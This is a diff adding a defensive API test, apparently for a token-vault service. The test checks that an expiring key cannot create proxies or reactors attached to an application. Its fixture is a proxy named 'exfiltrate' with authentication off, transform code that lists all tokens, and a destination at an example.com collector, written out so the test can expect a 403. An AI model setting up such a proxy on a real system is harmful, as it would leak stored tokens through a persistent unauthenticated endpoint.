@@ -157,6 +157,46 @@ test('a key that expires cannot make, extend or take over an application that ou
   ).toBe(201);
 });
 
+test('a key that expires writes no reactor or proxy with an application, which would use its rights after it is gone', async () => {
+  const temp = client(
+    api.url,
+    (
+      await app({
+        type: 'management',
+        permissions: ['application:update', 'proxy:create', 'reactor:create'],
+        expires_at: new Date(Date.now() + 3600_000).toISOString(),
+      })
+    ).key,
+  );
+  const user = await app({ type: 'private', permissions: ['token:use', 'token:read'] });
+  const code = 'module.exports = async (req) => ({ ...req, body: await req.bt.tokens.list() });';
+  // A proxy without require_auth would be a bearer key to the application's rights that never expires.
+  const proxy = await temp.post('/proxies', {
+    body: {
+      name: 'exfiltrate',
+      destination_url: 'https://example.com/collect',
+      require_auth: false,
+      application: { id: user.id },
+      request_transform: { code },
+    },
+  });
+  expect(proxy.status).toBe(403);
+  expect(proxy.body.detail).toContain('The key expires at');
+  expect(proxy.body.key).toBeUndefined();
+  const reactor = await temp.post('/reactors', {
+    body: { name: 'r', configuration: {}, code: 'module.exports = async () => ({});', application: { id: user.id } },
+  });
+  expect(reactor.status).toBe(403);
+  // Without an application it writes them as before.
+  expect(
+    (
+      await temp.post('/reactors', {
+        body: { name: 'r', configuration: {}, code: 'module.exports = async () => ({});' },
+      })
+    ).status,
+  ).toBe(201);
+});
+
 test("idempotency replays a key's own answer only: another key with the same BT-IDEMPOTENCY-KEY and body gets its own", async () => {
   const first = client(api.url, (await app({ type: 'private', permissions: ['token:create', 'token:read'] })).key);
   const second = client(api.url, (await app({ type: 'private', permissions: ['token:create'] })).key);
